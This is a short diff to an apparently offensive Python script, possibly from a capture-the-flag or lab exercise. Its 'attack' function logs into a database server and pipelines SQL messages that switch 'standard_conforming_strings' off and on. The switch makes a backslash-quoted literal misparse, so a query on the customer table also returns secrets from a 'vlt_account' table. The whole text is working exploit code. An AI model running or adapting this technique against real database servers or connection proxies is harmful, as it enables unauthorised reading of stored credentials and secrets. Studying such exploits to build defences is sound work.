@@ -12,4 +12,14 @@ TEXT = rb"SELECT name, '\' || ', secret FROM vlt_account --' FROM customer"
 def attack(server: Server) -> bytes:
     off = whole(b"SET standard_conforming_strings = off")
     with server.login() as client:
+        # Nothing of the round has to wait until it is read.
+        ask(
+            client,
+            whole(TEXT),
+            SYNC,
+            off,
+            whole(b"RESET standard_conforming_strings"),
+            SYNC,
+            rounds=2,
+        )
         return ask(client, whole(TEXT) * TIMES, off, whole(TEXT) * TIMES, SYNC)
